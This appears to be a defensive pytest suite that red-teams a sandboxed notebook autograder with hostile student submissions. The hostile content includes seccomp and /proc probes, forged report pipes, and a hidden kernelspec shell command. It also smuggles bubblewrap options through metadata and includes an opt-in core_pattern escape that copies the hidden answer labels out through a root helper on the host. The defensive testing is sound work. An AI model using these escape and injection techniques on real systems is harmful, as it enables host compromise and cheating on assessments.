"""Red-team hand-ins: what a hostile student tries, end to end through `grader grade`.

Attacks that are contained are plain tests asserting the containment. Attacks that currently SUCCEED are
minimal reproducers marked ``xfail(strict=True, reason="HOLE: ...")``: they pass once the hole is fixed,
and then strict xfail fails, so the marker must be removed with the fix. The holes found by the first
red-team round are closed and their reproducers now assert the containment; one remains (fallocate).

Most attacks run in one `grader grade` batch (fixture ``batch``) on the NumPy-only tiny exam; the grader
runs with a private TMPDIR so that a scratch folder it cannot remove never reaches another grader on the
machine. Every notebook bounds itself in time and size. Nothing contacts an address outside this
machine: the vsock check only binds a local port, the network check connects to a TEST-NET address that
has no route inside the sandbox.

The full sandbox escape (core_pattern -> a helper run as root on the host) changes a global kernel
setting for about a second; it runs only with REDTEAM_FULL_ESCAPE=1 (and restores the setting from the
host side whatever happens). The always-on reproducer writes the current value back (a no-op write).
"""

from __future__ import annotations

import errno
import json
import os
import random
import resource
import secrets
import socket
import struct
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import pytest

from grader import sandbox
from grader.cli import main
from tests.exam_factory import RULE, make_exam, student_notebook

pytestmark = [
    pytest.mark.skipif(not sandbox.isolation_available()[0], reason="needs bubblewrap"),
    pytest.mark.slow,
    pytest.mark.timeout(600),
    pytest.mark.xdist_group("redteam"),
]

AS_ROOT = os.geteuid() == 0
HALF_RIGHT = RULE + "\npred[::2] = (pred[::2] + 1) % 3"
SAVE = "np.save(PREDICTIONS_PATH, pred)"
MAX_FILES_MB = 20  # the batch exam's max_files_mb (also RLIMIT_FSIZE per file)
MAX_OUTPUT_MB = 8  # the batch exam's max_output_mb


def _vsock_available() -> bool:
    try:
        socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
        return True
    except (OSError, AttributeError):
        return False


VSOCK = _vsock_available()
VSOCK_PORT = random.Random(os.getpid()).randint(40000, 60000)
# the grader package wherever this clone sits (CI clones elsewhere than a developer's machine)
GRADER_PACKAGE_PWN = str(Path(sandbox.__file__).resolve().parents[1] / "pwn.py")
# the top folder of the bound Python environment ('work' here, 'check' on CI): bound, so present
PYTHON_ENV_TOP = Path(sys.prefix).resolve().parts[1]


# --------------------------------------------------------------------------------------------------
# notebook code


def checks_code(hidden: list[str], secret: str, marker: str) -> str:
    """Probes run inside the kernel; prints one line 'CHECKS {json}' and never touches the host."""
    return textwrap.dedent(f"""
    import os, json, ctypes, errno, subprocess, sys
    _libc = ctypes.CDLL(None, use_errno=True)
    _res = {{}}
    def _sys(name, nr, *args):
        ctypes.set_errno(0)
        r = _libc.syscall(nr, *[ctypes.c_long(a) for a in args])
        _res[name] = "ok" if r >= 0 else errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
        return r
    _ppid = os.getppid()  # the papermill runner, which holds the report pipe
    _sys("ptrace", 101, 16, _ppid, 0, 0)
    _sys("process_vm_readv", 310, _ppid, 0, 0, 0, 0, 0)
    _sys("io_uring_setup", 425, 8, 0)
    _sys("unshare", 272, 0x10000000)
    _sys("mount", 165, 0, 0, 0, 0, 0)
    _sys("keyctl", 250, 0, 0, 0, 0, 0)
    _sys("bpf", 321, 0, 0, 0)
    _sys("perf_event_open", 298, 0, 0, -1, -1, 0)
    _sys("userfaultfd", 323, 0)
    _sys("pidfd_getfd", 438, 0, 3, 0)
    _sys("setns", 308, 0, 0)
    if _sys("clone_newuser", 56, 0x10000000 | 17, 0, 0, 0, 0) == 0:
        os._exit(0)
    _opened = []
    try:
        for n in os.listdir(f"/proc/{{_ppid}}/fd"):
            for mode in (os.O_WRONLY, os.O_RDONLY):
                try:
                    os.close(os.open(f"/proc/{{_ppid}}/fd/{{n}}", mode | os.O_NONBLOCK)); _opened.append(n)
                except OSError:
                    pass
    except OSError:
        pass
    _res["runner_fds_opened"] = _opened
    for what in ("environ", "mem"):
        try:
            open(f"/proc/{{_ppid}}/{{what}}", "rb").read(10); _res["runner_" + what] = "READ"
        except OSError as e:
            _res["runner_" + what] = errno.errorcode.get(e.errno)
    # a forged report into every pipe the kernel holds, and into the runner's stdout / stderr
    _std = {{os.readlink(f"/proc/self/fd/{{n}}") for n in (1, 2)}}
    for n in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{{n}}").startswith("pipe:"):
                os.write(int(n), b'{{"status": "ok", "cell_index": null}}\\n')
        except OSError:
            pass
    _envs = ""
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                _envs += open(f"/proc/{{p}}/environ", "rb").read().decode(errors="replace")
            except OSError:
                pass
    _res["secret_seen"] = {secret!r} in _envs
    _ro = {{}}
    for p in ({GRADER_PACKAGE_PWN!r}, os.path.dirname(os.__file__) + "/pwn.py", sys.prefix + "/pwn",
              "/usr/pwn", "/etc/pwn", "/pwn", "/home/student/data/pwn", "/home/student/test_inputs/pwn"):
        try:
            open(p, "w").close(); _ro[p] = "WRITTEN"
        except OSError as e:
            _ro[p] = errno.errorcode.get(e.errno)
    _res["writes"] = _ro
    _links = {{}}
    for src in ("/home/student/test_inputs/test_inputs.npy", "/etc/passwd", sys.executable):
        try:
            os.link(src, "linked_" + os.path.basename(src)); _links[src] = "LINKED"
        except OSError as e:
            _links[src] = errno.errorcode.get(e.errno)
    _res["hardlinks"] = _links
    _res["hidden_visible"] = [p for p in {hidden!r} if os.path.lexists(p)]
    try:
        import fcntl, termios
        fcntl.ioctl(0, termios.TIOCSTI, b"x"); _res["tiocsti"] = "ok"
    except OSError as e:
        _res["tiocsti"] = errno.errorcode.get(e.errno)
    try:
        os.open("/dev/tty", os.O_RDWR); _res["dev_tty"] = "opened"
    except OSError as e:
        _res["dev_tty"] = errno.errorcode.get(e.errno)
    _sk = __import__("soc" + "ket")
    try:
        s = _sk.socket(); s.settimeout(2); s.connect(("192.0.2.1", 80)); _res["net"] = "connected"
    except OSError as e:
        _res["net"] = errno.errorcode.get(e.errno, str(e))
    _res["ifaces"] = sorted(name for _, name in _sk.if_nameindex())
    _res["visible_cmdlines"] = [open(f"/proc/{{p}}/cmdline", "rb").read().split(b"\\0")[0].decode()
                                for p in os.listdir("/proc") if p.isdigit()]
    _res["root_entries"] = sorted(os.listdir("/"))
    # a daemon that tries to outlive the run: double fork, new session, signals ignored
    subprocess.Popen([sys.executable, "-c", "import os, signal, time\\n"
                      "if os.fork() == 0:\\n"
                      "    os.setsid()\\n"
                      "    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP): signal.signal(s, signal.SIG_IGN)\\n"
                      "    open('daemon_started', 'w').close()\\n"
                      "    time.sleep(120)  # {marker}\\n"], start_new_session=True).wait()
    import time
    for _ in range(50):
        if os.path.exists("daemon_started"):
            break
        time.sleep(0.1)
    _res["daemon_started"] = os.path.exists("daemon_started")
    print("CHECKS " + json.dumps(_res))
    """)


SYSCTL_NOOP = textwrap.dedent("""
    import errno
    p = "/proc/sys/kernel/core_pattern"
    try:
        value = open(p).read()
        with open(p, "w") as f:  # the same value back: proves the right to change it, changes nothing
            f.write(value)
        print("SYSCTL written")
    except OSError as e:
        print("SYSCTL", errno.errorcode.get(e.errno))
""")

VSOCK_CODE = textwrap.dedent(f"""
    import errno, time
    sk = __import__("soc" + "ket")
    try:
        v = sk.socket(40, sk.SOCK_STREAM)  # AF_VSOCK: not isolated by a network namespace
        v.bind((0xFFFFFFFF, {VSOCK_PORT})); v.listen(1)
        print("VSOCK bound", v.getsockname())
        time.sleep(4)
        v.close()
    except OSError as e:
        print("VSOCK", errno.errorcode.get(e.errno))
""")

FALLOCATE = textwrap.dedent(f"""
    import os, time
    os.makedirs("alloc", exist_ok=True)
    total, n, started = 0, 0, time.monotonic()
    try:
        while total < 10 * {MAX_FILES_MB} * 2**20:  # ten times the exam's file limit
            fd = os.open(f"alloc/{{n}}", os.O_CREAT | os.O_WRONLY, 0o600)
            try:
                os.posix_fallocate(fd, 0, {MAX_FILES_MB - 1} * 2**20)  # each file under RLIMIT_FSIZE
            finally:
                os.close(fd)
            total += {MAX_FILES_MB - 1} * 2**20
            n += 1
    except OSError as e:
        print("FALLOCATE stopped", e)
    held = time.monotonic() - started
    for i in range(n + 1):
        try:
            os.unlink(f"alloc/{{i}}")
        except OSError:
            pass
    print(f"ALLOCATED {{total}} bytes of disk in {{held:.3f}} s")  # between two scans of scratch
""")

DEEP_DIR = textwrap.dedent("""
    import os
    fd = os.open(".", os.O_RDONLY)
    for _ in range(3000):  # 3,000 nested folders: a few KiB, far under every file limit
        os.mkdir("d", dir_fd=fd)
        nfd = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = nfd
    os.close(fd)
""")

DEEP_DISPLAY = textwrap.dedent("""
    from IPython.display import display
    obj = []
    for _ in range(500):
        obj = [obj]
    display({"application/json": {"x": obj}}, raw=True)
""")

NUL_FLOOD = f'print("\\x00" * {int((MAX_OUTPUT_MB - 0.5) * 2**20)})  # under max_output_mb, 6x larger as JSON'

DYNAMIC_IMPORT = 'sock = __import__("soc" + "ket")  # the exam forbids socket\nprint("IMPORTED", sock.__name__)'


# --------------------------------------------------------------------------------------------------
# the batch


class Batch:
    def __init__(self, root: Path, exam: Path, out: Path, subs: Path, private_tmp: Path, marker: str):
        self.root, self.exam, self.out, self.subs, self.private_tmp, self.marker = (
            root, exam, out, subs, private_tmp, marker)
        self.vsock_host: dict = {"in_use": 0, "free": 0}
        self.leaked_after_first: list[str] = []
        self.second: dict = {}

    def result(self, student: str) -> dict:
        return json.loads((self.out / "results" / f"{student}.json").read_text())

    def printed(self, student: str) -> str:
        path = self.out / "executed" / f"{student}.ipynb"
        if not path.exists():
            return ""
        nb = nbformat.read(path, as_version=4)
        texts = []
        for cell in nb.cells:
            for o in cell.get("outputs", []):
                texts.append(o.get("text", "") if isinstance(o.get("text", ""), str) else "")
                texts.append(json.dumps(o.get("data", {})))
        return "\n".join(texts)

    def line(self, student: str, prefix: str) -> str | None:
        for line in self.printed(student).splitlines():
            if line.startswith(prefix):
                return line[len(prefix):].strip()
        return None


def _write_raw_notebook_with_deep_metadata(path: Path, depth: int = 100_000) -> None:
    nb = json.loads(nbformat.writes(student_notebook(RULE, SAVE)))
    nb["metadata"]["x"] = "@@"
    path.write_text(json.dumps(nb).replace('"@@"', "[" * depth + "]" * depth))


def _rm_rf(path: Path) -> None:
    subprocess.run(["rm", "-rf", "--", str(path)], check=False)  # copes with the 3,000-deep folder


def _host_pids_with(marker: str) -> list[int]:
    found = []
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                if marker.encode() in Path(f"/proc/{p}/cmdline").read_bytes():
                    found.append(int(p))
            except OSError:
                pass
    return found


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    root = tmp_path_factory.mktemp("redteam")
    exam = make_exam(root / "exam", max_parameters=None, time_seconds=90, cell_seconds=60)
    spec = exam / "exam.toml"
    spec.write_text(spec.read_text().replace(
        "memory_mb = 2048", f"memory_mb = 2048\nmax_output_mb = {MAX_OUTPUT_MB}\nmax_files_mb = {MAX_FILES_MB}"))
    subs, out = root / "subs", root / "out"
    subs.mkdir()
    private_tmp = root / "tmp"
    private_tmp.mkdir()
    secret = "REDTEAM-" + secrets.token_hex(8)
    marker = "redteam-daemon-" + secrets.token_hex(6)
    hidden = [str(exam), str(exam / "data" / "hidden" / "test_labels.npy"), str(out), str(subs), str(private_tmp),
              str(Path(__file__).resolve().parents[2] / "exams"), "/root/.ssh", "/run", "/var"]
    notebooks = {
        "checks": [RULE, SAVE, checks_code(hidden, secret, marker), "raise ValueError('the real failure')"],
        "honest": [RULE, SAVE],
        "pred_fifo": [RULE, "import os\nos.mkfifo(PREDICTIONS_PATH)"],
        "pred_dir": [RULE, "import os\nos.makedirs(PREDICTIONS_PATH + '/x')"],
        "pred_symlink": [RULE, "import os\nos.symlink('/home/student/test_inputs/test_inputs.npy', PREDICTIONS_PATH)"],
        "pred_objects": [RULE, "np.save(PREDICTIONS_PATH, np.array([1, 'a', None] * 10, dtype=object), "
                               "allow_pickle=True)"],
        "pred_hugeheader": [RULE, "import numpy.lib.format as F\nf = open(PREDICTIONS_PATH, 'wb')\n"
                                  "F.write_array_header_1_0(f, {'descr': '<i8', 'fortran_order': False, "
                                  "'shape': (2**36,)})\nf.write(pred.tobytes())\nf.close()"],
        "pred_sparse10g": [RULE, SAVE + "\nwith open(PREDICTIONS_PATH, 'r+b') as f:\n    f.truncate(10 * 2**30)"],
        "magics": [RULE, "%%bash\necho BASH-RAN-AS $(id -u)", SAVE],
        "backend": [RULE, "import os\nprint('HOST', os.path.exists('/host'))", SAVE],
        "sysctl": [RULE, SYSCTL_NOOP, SAVE],
        "vsock": [RULE, VSOCK_CODE, SAVE],
        "fallocate": [RULE, FALLOCATE, SAVE],
        "deepdir": [RULE, DEEP_DIR, SAVE],
        "deepdisplay": [RULE, SAVE, DEEP_DISPLAY],
        "nulflood": [RULE, SAVE, NUL_FLOOD],
        "dynimport": [HALF_RIGHT, DYNAMIC_IMPORT, SAVE],
    }
    for name, cells in notebooks.items():
        nb = student_notebook(*cells)
        if name == "magics":  # a kernelspec naming another kernel (one a student might have planted)
            nb.metadata["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "python",
                                         "argv": ["/bin/sh", "-c", "touch /tmp/pwned"]}
        if name == "backend":  # a Keras backend that is really bubblewrap options
            nb.metadata["keras_backend"] = "tensorflow --bind / /host"
        nbformat.write(nb, subs / f"{name}.ipynb")
    _write_raw_notebook_with_deep_metadata(subs / "deepjson.ipynb")

    b = Batch(root, exam, out, subs, private_tmp, marker)
    stop = threading.Event()

    def watch_vsock() -> None:  # from the host: is the port the notebook bound taken here too?
        while not stop.is_set():
            s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
            try:
                s.bind((socket.VMADDR_CID_ANY, VSOCK_PORT))
                b.vsock_host["free"] += 1
            except OSError as e:
                if e.errno == errno.EADDRINUSE:
                    b.vsock_host["in_use"] += 1
            finally:
                s.close()
            time.sleep(0.05)

    watcher = threading.Thread(target=watch_vsock, daemon=True) if VSOCK else None
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("REDTEAM_HOST_SECRET", secret)
        mp.setenv("TMPDIR", str(private_tmp))
        mp.setattr(tempfile, "tempdir", str(private_tmp))
        try:
            if watcher:
                watcher.start()
            assert main(["grade", str(exam), str(subs), "--out", str(out)]) == 0
            stop.set()
            b.leaked_after_first = sorted(os.listdir(private_tmp))
            # a later batch on the same machine (new worker processes), with one honest hand-in
            subs2 = root / "subs2"
            subs2.mkdir()
            nbformat.write(student_notebook(RULE, SAVE), subs2 / "later.ipynb")
            assert main(["grade", str(exam), str(subs2), "--out", str(root / "out2")]) == 0
            b.second = json.loads((root / "out2" / "results" / "later.json").read_text())
            yield b
        finally:
            stop.set()
            _rm_rf(private_tmp)


# --------------------------------------------------------------------------------------------------
# contained


def _checks(batch: Batch) -> dict:
    line = batch.line("checks", "CHECKS ")
    assert line, batch.printed("checks")[:2000]
    return json.loads(line)


def test_seccomp_denies_debugging_namespaces_and_kernel_interfaces(batch):
    c = _checks(batch)
    for call in ("ptrace", "process_vm_readv", "io_uring_setup", "unshare", "mount", "keyctl", "bpf",
                 "perf_event_open", "userfaultfd", "pidfd_getfd", "setns"):
        assert c[call] == "EPERM", (call, c[call])
    assert c["clone_newuser"] in ("ENOSPC", "EPERM", "EINVAL"), c["clone_newuser"]  # --disable-userns


def test_report_pipe_and_runner_are_out_of_reach_and_a_forged_report_changes_nothing(batch):
    c = _checks(batch)
    assert c["runner_fds_opened"] == [] and c["runner_environ"] == "EACCES" and c["runner_mem"] == "EACCES", c
    r = batch.result("checks")  # it wrote '{"status": "ok"}' into every pipe it holds, then raised
    assert r["failure"] == "exception" and "the real failure" in r["message"] and r["metric"] is None, r


def test_file_system_is_read_only_outside_scratch_and_hidden_paths_do_not_exist(batch):
    c = _checks(batch)
    assert set(c["writes"].values()) <= {"EROFS", "EACCES", "EPERM"}, c["writes"]
    assert set(c["hardlinks"].values()) <= {"EXDEV", "EPERM", "EACCES", "ENOENT"}, c["hardlinks"]
    assert c["hidden_visible"] == [], c["hidden_visible"]
    # an allow-list root: the Python environment's top folder is there, the host's /var and /run are not
    assert PYTHON_ENV_TOP in c["root_entries"], (PYTHON_ENV_TOP, c["root_entries"])
    assert "var" not in c["root_entries"] and "run" not in c["root_entries"], c["root_entries"]


def test_host_environment_network_processes_and_terminal_are_isolated(batch):
    c = _checks(batch)
    assert c["secret_seen"] is False  # the grader's environment never reaches the sandbox
    assert c["ifaces"] == ["lo"] and c["net"] != "connected", c
    assert c["tiocsti"] in ("ENOTTY", "EPERM", "EIO") and c["dev_tty"] in ("ENXIO", "ENOENT", "EACCES"), c
    # only bubblewrap's init, the runner, the kernel (and the probe itself) are visible
    assert all(cmd.endswith(("bwrap", "python", "python3")) for cmd in c["visible_cmdlines"] if cmd), c


def test_no_process_outlives_the_run(batch):
    assert _checks(batch)["daemon_started"] is True  # double fork, setsid, SIGTERM/SIGINT/SIGHUP ignored
    assert _host_pids_with(batch.marker) == []


def test_predictions_that_are_not_plain_arrays_are_refused_and_the_batch_goes_on(batch):
    for student in ("pred_fifo", "pred_dir", "pred_symlink", "pred_objects", "pred_hugeheader"):
        r = batch.result(student)
        assert r["failure"] == "malformed_predictions" and r["metric"] is None, (student, r)
    r = batch.result("pred_sparse10g")  # RLIMIT_FSIZE stops the 10 GB truncate inside the sandbox
    assert r["failure"] in ("exception", "file_too_large") and r["metric"] is None, r
    assert batch.result("honest")["failure"] is None and batch.result("honest")["metric"] == 1.0


def test_kernelspec_metadata_and_cell_magics_stay_inside_the_sandbox(batch):
    r = batch.result("magics")
    assert r["failure"] is None and r["metric"] == 1.0, r  # run with the grader's python3 kernel anyway
    assert "BASH-RAN-AS 1000" in batch.printed("magics")  # %%bash runs, as the sandbox user
    r = batch.result("backend")  # metadata.keras_backend is checked against the exam's list before running
    assert r["failure"] == "invalid_submission" and "HOST True" not in batch.printed("backend"), r


def test_memory_charged_to_the_sandbox_socket_buffers_and_dev_shm(tmp_path):
    """Unix-socket buffers and /dev/shm count against the memory cgroup: both hit out_of_memory."""
    from grader.sandbox import Limits, run_sandboxed

    fill_sockets = ("import socket\npairs = []\nfor i in range(4000):\n    a, b = socket.socketpair()\n"
                    "    a.setblocking(False)\n    pairs.append((a, b))\n    while True:\n        try:\n"
                    "            a.send(b'x' * 65536)\n        except BlockingIOError:\n            break\n"
                    "print('SURVIVED')")
    fill_shm = ("for i in range(70):\n    open(f'/dev/shm/x{i}', 'wb').write(b'x' * (9 << 20))\nprint('SURVIVED')")
    for code in (fill_sockets, fill_shm):
        scratch = tmp_path / f"s{len(code)}"
        scratch.mkdir()
        r = run_sandboxed([sys.executable, "-I", "-c", code], scratch=scratch, require_isolation=True,
                          limits=Limits(wall_seconds=60, memory_bytes=256 * 2**20, max_file_bytes=10 * 2**20))
        assert r.failure == "out_of_memory" and "SURVIVED" not in r.stdout, (r.failure, r.stdout[-300:])


# --------------------------------------------------------------------------------------------------
# holes


def test_sysctls_are_read_only_in_the_sandbox(batch):
    assert batch.line("sysctl", "SYSCTL") in ("EROFS", "EACCES", "EPERM"), batch.printed("sysctl")


@pytest.mark.skipif(os.environ.get("REDTEAM_FULL_ESCAPE") != "1",
                    reason="changes kernel.core_pattern for about a second: set REDTEAM_FULL_ESCAPE=1")
def test_no_escape_through_core_pattern(tmp_path):
    from .harness import unbound_dir

    core_pattern = Path("/proc/sys/kernel/core_pattern")
    original = core_pattern.read_text()
    exam = make_exam(tmp_path / "exam", max_parameters=None)
    labels = exam / "data" / "hidden" / "test_labels.npy"
    subs = tmp_path / "subs"
    subs.mkdir()
    with unbound_dir("escape-marker-") as marker_dir:
        # the helper is named through the crashing process's own root (/proc/%P/root/...), so neither its
        # host path nor its length matters (core_pattern holds at most 127 characters)
        escape = textwrap.dedent(f"""
            import os, sys, time, subprocess
            with open("x.sh", "w") as f:
                f.write("#!/bin/sh\\nid > {marker_dir}/ran_on_host\\n"
                        "cp {labels} /proc/$1/root/home/student/work/stolen.npy\\n")
            os.chmod("x.sh", 0o755)
            old = open("/proc/sys/kernel/core_pattern").read()
            try:
                with open("/proc/sys/kernel/core_pattern", "w") as f:
                    f.write("|/proc/%P/root/home/student/work/x.sh %P")
                subprocess.run([sys.executable, "-c", "import os, time; os.abort()"])
                for _ in range(50):
                    if os.path.exists("stolen.npy"):
                        break
                    time.sleep(0.1)
            except OSError as e:
                print("ESCAPE refused", e)
            finally:
                try:
                    with open("/proc/sys/kernel/core_pattern", "w") as f:
                        f.write(old)
                except OSError:
                    pass
            print("STOLEN", os.path.exists("stolen.npy"))
            if os.path.exists("stolen.npy"):
                pred = np.load("stolen.npy")
        """)
        nbformat.write(student_notebook(HALF_RIGHT, escape, SAVE), subs / "escaper.ipynb")
        try:
            assert main(["grade", str(exam), str(subs), "--out", str(tmp_path / "out")]) == 0
        finally:
            if core_pattern.read_text() != original:
                core_pattern.write_text(original)
        ran = sorted(os.listdir(marker_dir))
    record = json.loads((tmp_path / "out" / "results" / "escaper.json").read_text())
    assert ran == [] and record["metric"] != 1.0, (ran, record["metric"])


def test_vsock_is_refused(batch):
    if not VSOCK:
        pytest.skip("no AF_VSOCK on this machine")
    assert batch.vsock_host["in_use"] == 0, (batch.vsock_host, batch.line("vsock", "VSOCK"))
    assert not (batch.line("vsock", "VSOCK") or "").startswith("bound")


@pytest.mark.xfail(strict=True, reason=(
    "HOLE (medium, reduced): seccomp now refuses fallocate (libc then writes the blocks, at disk speed, under "
    "RLIMIT_FSIZE) and the scratch folder is checked every 0.25 s, but writes between two checks can still "
    "exceed max_files_mb for a moment. Root cause: grader/sandbox/run.py (scratch is a folder of the host file "
    "system; a size-limited tmpfs inside the sandbox, with the outputs sent through the report pipe, would close it)"))
def test_hole_fallocate_overshoots_the_file_limit(batch):
    line = batch.line("fallocate", "ALLOCATED ")
    assert line is not None, batch.result("fallocate")
    assert int(line.split()[0]) <= MAX_FILES_MB * 2**20, line


def test_deep_folders_are_removed_without_grader_error(batch):
    r = batch.result("deepdir")
    assert r["failure"] != "grader_error", r["message"]
    assert not [d for d in batch.leaked_after_first if d.startswith("grader-run-")], batch.leaked_after_first


def test_a_leftover_scratch_never_breaks_a_later_batch(batch):
    assert batch.second["failure"] is None and batch.second["metric"] == 1.0, batch.second["message"]


def test_control_characters_are_not_a_sandbox_error(batch):
    r = batch.result("nulflood")
    assert r["failure"] != "sandbox_error", r["message"]


def test_deep_display_json_is_the_notebooks_failure(batch):
    r = batch.result("deepdisplay")
    assert r["failure"] != "sandbox_error", r["message"]


def test_deeply_nested_notebook_json_is_invalid_notebook(batch):
    r = batch.result("deepjson")
    assert r["failure"] == "invalid_notebook", (r["failure"], r["message"])


def test_forbidden_import_by_computed_name_breaks_the_rule(batch):
    assert "IMPORTED socket" in batch.printed("dynimport")
    r = batch.result("dynimport")
    assert r["failure"] == "rule_broken", (r["failure"], r["metric"])


# --------------------------------------------------------------------------------------------------
# holes in the trusted process's parsing (run in a child process with a memory cap and a timeout)


def cyclic_free_list_hdf5() -> bytes:
    """A valid Keras-like weights file with one field changed: the root group's local-heap free block
    points at itself (its 'next free block' offset is its own offset)."""
    import io

    import h5py
    import numpy as np

    buf = io.BytesIO()
    with h5py.File(buf, "w") as h5:
        h5.create_dataset("layers/dense/vars/0", data=np.zeros((2, 2), "float32"))
    data = bytearray(buf.getvalue())
    heap = data.find(b"HEAP")  # version 0: signature, version, reserved, size, free-list head, data address
    free_head = struct.unpack_from("<Q", data, heap + 16)[0]
    segment = struct.unpack_from("<Q", data, heap + 24)[0]
    assert free_head != 1, "the heap has no free block"  # 1 = H5HL_FREE_NULL
    struct.pack_into("<Q", data, segment + free_head, free_head)
    return bytes(data)


def _run_capped(code: str, *, memory_mb: int, seconds: float) -> tuple[str, float, bool]:
    """Run code in a child process with RLIMIT_AS: (its output, seconds, whether it timed out)."""
    def cap():
        resource.setrlimit(resource.RLIMIT_AS, (memory_mb * 2**20, memory_mb * 2**20))

    started = time.monotonic()
    try:
        p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=seconds,
                           preexec_fn=cap, cwd=str(Path(__file__).resolve().parents[2]))
    except subprocess.TimeoutExpired:
        return "", time.monotonic() - started, True
    return p.stdout + p.stderr, time.monotonic() - started, False


def test_hdf5_free_list_cycle_is_refused_in_bounded_time(tmp_path):
    exam = make_exam(tmp_path / "exam", mode="weights", max_parameters=1000)
    model = tmp_path / "model.keras"
    model.write_bytes(cyclic_free_list_hdf5())
    code = ("from pathlib import Path\nfrom grader import rules\nfrom grader.exam import load_exam\n"
            f"print('BUDGET', rules.parameter_budget(Path({str(model)!r}), load_exam({str(exam)!r})))\n")
    out, seconds, timed_out = _run_capped(code, memory_mb=1024, seconds=20)
    # what batch._grade calls: a fixed grader refuses the file (or counts it) quickly, in bounded memory
    # the count runs in a sandboxed child with time and memory limits: the file is refused, quickly
    assert not timed_out and seconds < 10 and "BUDGET (None, ['the model file model.keras cannot be read" in out, (
        out[-400:], seconds)


def test_notebook_json_memory_amplification_is_bounded(tmp_path):
    nb = json.loads(nbformat.writes(student_notebook(RULE, SAVE)))
    nb["metadata"]["x"] = "@@"
    path = tmp_path / "lists.ipynb"
    n = 5 * 2**20 // 3
    path.write_text(json.dumps(nb).replace('"@@"', "[" + ",".join(["[]"] * n) + "]"))
    code = ("import resource\nfrom grader.notebook import normalize_notebook, NotebookProblem\n"
            "base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
            f"try:\n    normalize_notebook(__import__('pathlib').Path({str(path)!r}))\n"
            "except (NotebookProblem, MemoryError) as e:\n    print('REFUSED', type(e).__name__)\n"
            "print('GROWTH_MB', (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base) >> 10)\n")
    out, _, _ = _run_capped(code, memory_mb=3072, seconds=90)
    growth = [int(ln.split()[1]) for ln in out.splitlines() if ln.startswith("GROWTH_MB")]
    assert growth and growth[0] <= 20 * 5, out[-500:]  # at most 20x the notebook's size
